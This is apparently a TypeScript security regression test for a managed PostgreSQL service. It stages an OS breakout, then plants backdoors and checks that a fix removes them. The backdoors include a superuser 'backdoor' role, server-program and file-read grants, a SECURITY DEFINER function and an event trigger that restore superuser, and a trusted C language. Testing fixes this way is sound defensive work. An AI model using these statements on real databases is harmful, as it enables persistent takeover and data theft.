import assert from 'node:assert/strict';
import { existsSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type pg from 'pg';
import { wayOut, withoutGuard } from './fault-1.ts';
import { MASTER, type Target } from './target.ts';

/** What a former superuser leaves behind in order to become superuser again. Run as rdsadmin. */
function leftBehind({ version }: Target): readonly string[] {
  return [
    'CREATE ROLE backdoor SUPERUSER LOGIN',
    'CREATE ROLE quiet BYPASSRLS REPLICATION',
    `GRANT pg_read_server_files, pg_execute_server_program TO ${MASTER} WITH ADMIN OPTION`,
    'CREATE ROLE between',
    'GRANT pg_write_server_files TO between',
    `GRANT between TO ${MASTER}`,
    'ALTER ROLE rds_superuser RENAME TO mine',
    'GRANT CONNECT, CREATE ON DATABASE rdsadmin TO PUBLIC',
    'ALTER DATABASE rdsadmin IS_TEMPLATE true',
    `ALTER ROLE rdsadmin SET search_path = public`,
    ...(version >= 15 ? [`GRANT SET ON PARAMETER session_preload_libraries TO ${MASTER}`] : []),
  ];
}

const inDatabase = `
  CREATE FUNCTION public.again() RETURNS void LANGUAGE sql SECURITY DEFINER
    AS 'ALTER ROLE ${MASTER} SUPERUSER';
  CREATE VIEW public.authid AS SELECT * FROM pg_authid;
  GRANT ALL ON public.authid TO ${MASTER};
  GRANT UPDATE ON pg_group TO ${MASTER};
  GRANT EXECUTE ON FUNCTION pg_read_file(text) TO ${MASTER};
  UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'c';
  CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql
    AS 'BEGIN EXECUTE ''ALTER ROLE ${MASTER} SUPERUSER''; END';
  CREATE FUNCTION public.as_role() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user::text';
  ALTER FUNCTION public.as_role() OWNER TO pg_execute_server_program;
  CREATE EVENT TRIGGER on_ddl ON ddl_command_start EXECUTE FUNCTION public.on_ddl();`;

/**
 * Puts the cluster into the state of an older Cornac, breaks out to the operating system by fault 1, and
 * leaves everything behind that an intruder can leave. The breakout must succeed, which proves that the
 * attack is real.
 * @returns a session that has taken a role
 */
export async function breakOut(target: Target): Promise<pg.Client> {
  const { canaries, version } = target;
  await target.outside('ALTER DATABASE app RESET ALL;');
  await target.reconnect();
  await target.outside(withoutGuard);
  if (version === 14 || version === 15) {
    for (const sql of wayOut(target)) await target.query(sql);
    const ran = join(canaries.directory, 'ran');
    assert.ok(existsSync(ran), 'without the guard the program runs');
    rmSync(ran);
    target.take();
  }
  for (const sql of leftBehind(target)) await target.outside(`${sql};`);
  await target.outside(`\\connect app\n${inDatabase}\n\\connect rdsadmin`);
  const session = await target.connect();
  await session.query('SET ROLE pg_read_server_files');
  await target.outside('\\connect postgres\nALTER DATABASE rdsadmin RENAME TO gone;');
  return session;
}

/** Asserts that nothing of that works any more. */
export async function isMended(target: Target): Promise<void> {
  for (const sql of [
    'SELECT public.again()',
    `UPDATE public.authid SET rolsuper = true WHERE rolname = '${MASTER}'`,
    `UPDATE pg_group SET groname = 'x' WHERE groname = 'between'`,
    `SELECT pg_read_file('${target.canaries.secret}')`,
    `CREATE FUNCTION public.c() RETURNS int LANGUAGE c AS '$libdir/dblink', 'dblink_connect'`,
    'SET ROLE pg_read_server_files',
    'SET ROLE backdoor',
    `COPY (SELECT 1) TO PROGRAM '${target.canaries.program}'`,
    'SET session_preload_libraries = DEFAULT',
  ]) {
    await target.refused(sql);
  }
  const [owner] = await target.rows('SELECT public.as_role() AS role');
  if (/^(pg_|rdsadmin)/.test(owner?.role ?? '')) target.accept(`a function still works as ${owner?.role}`);
  await target.query('CREATE TABLE public.with_trigger ()');
  for (const sql of wayOut(target)) await target.query(sql);
  const isConnectable = await target.connect({ database: 'rdsadmin' }).catch(() => undefined);
  if (isConnectable) target.accept('rdsadmin is open');
  await isConnectable?.end();
  await target.check('after the mending');
}
